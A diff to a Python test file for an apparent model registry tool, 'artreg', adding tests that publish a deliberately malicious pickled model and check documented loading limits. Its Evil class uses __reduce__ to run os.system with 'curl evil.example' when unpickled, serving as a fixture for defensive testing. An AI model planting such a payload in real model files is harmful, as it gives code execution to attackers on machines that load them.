@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import os
+import pickle
 import re
 import shutil
 import subprocess
@@ -135,6 +136,47 @@ def test_each_attacker_is_held_to_what_tests_show() -> None:
             named = re.findall(r"`(test_\w+)`", claim)
             assert named, f"{who}: no test shows that they {claim}"
             assert set(named) <= written, claim
+
+
+def test_the_sessions_about_loading(trained: Path, tmp_path: Path) -> None:
+    place = shutil.copytree(trained, tmp_path / "place", ignore=shutil.ignore_patterns("registry"))
+    (place / "registry").mkdir()
+    (place / "evil").mkdir()
+    (place / "evil" / "model.joblib").write_bytes(pickle.dumps(Evil(), 2))
+    for command in (
+        "artreg train -c configs/logistic.yaml --set name=churn",
+        "artreg promote churn 1.0.0 --to staging",
+        "artreg promote churn 1.0.0 --to prod",
+        "artreg publish evil --model churn --version 2.0.0",
+    ):
+        assert "[exit" not in shell(command, place, environment())
+    assert play(blocks("docs/loading.md", "console"), place, environment()) == 3
+    (snippet,) = blocks("docs/loading.md", "python")
+    printed = subprocess.run([sys.executable, "-c", snippet], cwd=place, capture_output=True, text=True, check=True)
+    assert re.fullmatch(r"demo/churn@1\.0\.0 \[0\.\d+ +0\.\d+ +0\.\d+ *\]\n", printed.stdout), printed
+
+
+class Evil:
+    def __reduce__(self) -> tuple[object, ...]:
+        return os.system, ("curl evil.example",)
+
+
+def test_the_limits_of_the_documentation() -> None:
+    from artreg.inspection import limits, pickles
+    from artreg.registry.contents import IN_MEMORY
+
+    text = (ROOT / "docs" / "loading.md").read_text()
+    for shown in (
+        f"up to {IN_MEMORY // 2**20} MiB in memory",
+        f"{limits.RATIO} times its size, or {limits.UNPACKED_AT_LEAST // 2**20} MiB if that is more;"
+        f" {limits.UNPACKED // 2**30} GiB",
+        f"{limits.MEMBERS:,}; {limits.DIRECTORY // 2**20} MiB",
+        f"{limits.SCHEMA // 2**20} MiB, {limits.PARTS:,} parts, {limits.DEPTH} levels",
+        f"{limits.ARRAY_HEADER:,} bytes; exactly",
+        f"{limits.TENSORS:,}; without gaps",
+        f"{pickles.OPERATIONS:,} |",
+    ):
+        assert shown in text, shown
 
 
 @pytest.mark.slow
